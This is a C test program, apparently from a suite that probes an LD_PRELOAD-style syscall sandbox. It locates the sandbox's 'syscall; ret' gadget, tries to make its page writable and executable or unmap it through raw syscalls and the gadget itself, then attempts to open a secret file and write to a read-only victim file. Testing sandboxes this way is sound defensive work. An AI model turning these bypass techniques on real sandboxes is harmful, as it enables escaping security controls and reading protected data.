/* mprotect then munmap ld-preld's image (found by its `syscall; ret` gate),
 * through the handler and through the gate itself, then raw syscalls.
 * A crash is a fine outcome. */
#include "attack.h"
#include "gadget_scan.h"
int main(int argc, char **argv) {
    ARGS
    find_gadgets();
    for (int i = 0; i < ncand; i++) {
        unsigned long pg = cands[i] & ~0xfffUL;
        long r = raw(SYS_mprotect, pg, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, 0);
        printf("raw mprotect rwx of gate page %#lx: %ld\n", pg, r);
        r = lc(mprotect((void *)pg, 4096, PROT_READ | PROT_WRITE));
        printf("libc mprotect rw of gate page: %ld\n", r);
        fflush(stdout);
        show("raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
        r = raw(SYS_munmap, pg - (1 << 20), 4 << 20, 0, 0);
        printf("raw munmap 4 MiB around the gate: %ld\n", r);
        fflush(stdout);
        show("raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
    }
    for (int i = 0; i < ncand; i++) {
        unsigned long pg = cands[i] & ~0xfffUL;
        if (sigsetjmp(jb, 1)) { printf("gate call faulted\n"); continue; }
        long r = call_gadget(cands[i], SYS_mprotect, pg, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, 0);
        printf("mprotect rwx of gate page via the gate: %ld\n", r);
        fflush(stdout);
        show("raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
        r = call_gadget(cands[i], SYS_munmap, pg - (1 << 20), 4 << 20, 0, 0);
        printf("munmap 4 MiB around the gate via the gate: %ld\n", r);  /* returns into unmapped code: crash */
        fflush(stdout);
    }
    show("raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
    show("libc open secret", lc(open(secret, O_RDONLY)));
    try_write_ro("raw open ro/victim O_WRONLY", raw(SYS_openat, AT_FDCWD, cat2(ro, "/victim"), O_WRONLY, 0));
    return 0;
}
